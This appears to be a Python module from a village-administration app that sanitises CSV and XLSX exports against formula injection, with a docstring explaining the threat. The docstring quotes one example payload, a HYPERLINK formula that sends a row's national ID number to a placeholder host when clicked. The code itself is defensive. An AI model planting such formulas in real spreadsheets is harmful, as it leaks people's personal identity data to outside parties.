"""The cells of every XLSX and CSV file Lindung Desa writes: text from users never becomes a formula.

A cell whose text starts with "=", "+", "-", "@", a tab or a carriage return is taken for a formula by Excel,
LibreOffice or Google Sheets (OWASP, "CSV Injection"): a name typed as `=HYPERLINK("http://x/?"&C3,"Klik")`
would send the row's NIK away when clicked. Names, dusun, SK numbers, uploaded headers and usernames come from
users, so every writer puts its cells through this module, text from users or not:

- XLSX (`xlsx_value`, `xlsx_row`): text is always stored as a string cell (openpyxl otherwise makes any text
  starting with "=" a formula) and formula-like text also gets Excel's quote prefix (the apostrophe Excel
  keeps out of the cell), so it stays text when someone edits the cell. What the cell shows is exactly the
  user's text.
- CSV (`csv_value`, `csv_writer`): a CSV cannot say "text", so formula-like text gets a leading apostrophe,
  the smallest visible mark every spreadsheet reads as text; and every text field is quoted, so that a
  semicolon inside a field cannot start a new cell in a spreadsheet that splits on semicolons (Excel does
  with Indonesian regional settings).

Numbers, dates and times pass unchanged, so they stay numbers and dates.
"""

import csv
import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CSV_PREFIX = "'"
# Control characters an XLSX file cannot hold at all (XML 1.0); openpyxl refuses the whole file for one.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def formula_like(value: Any) -> bool:
    """True for text a spreadsheet would read as a formula (OWASP's list of first characters)."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_value(value: Any) -> Any:
    """A value for a CSV cell: formula-like text behind an apostrophe; anything else as it is."""
    return CSV_PREFIX + value if formula_like(value) else value


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `csv_value`, with every text field quoted."""

    def __init__(self, stream) -> None:
        self._writer = csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_value(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream) -> SafeCsvWriter:
    return SafeCsvWriter(stream)


def xlsx_value(cell: Cell, value: Any) -> Cell:
    """Put `value` in an openpyxl cell: text as a string cell (quote-prefixed when formula-like), numbers
    and dates as they are. Returns the cell."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    text = _NOT_IN_XML.sub("", value)
    cell.value = text
    cell.data_type = "s"  # openpyxl set "f" for text starting with "="
    if formula_like(text):
        cell.quotePrefix = True
    return cell


def xlsx_row(ws, values: Iterable[Any]) -> list[Cell]:
    """Cells for `ws.append()` (a normal or a write-only sheet), each through `xlsx_value`."""
    return [xlsx_value(WriteOnlyCell(ws), value) for value in values]
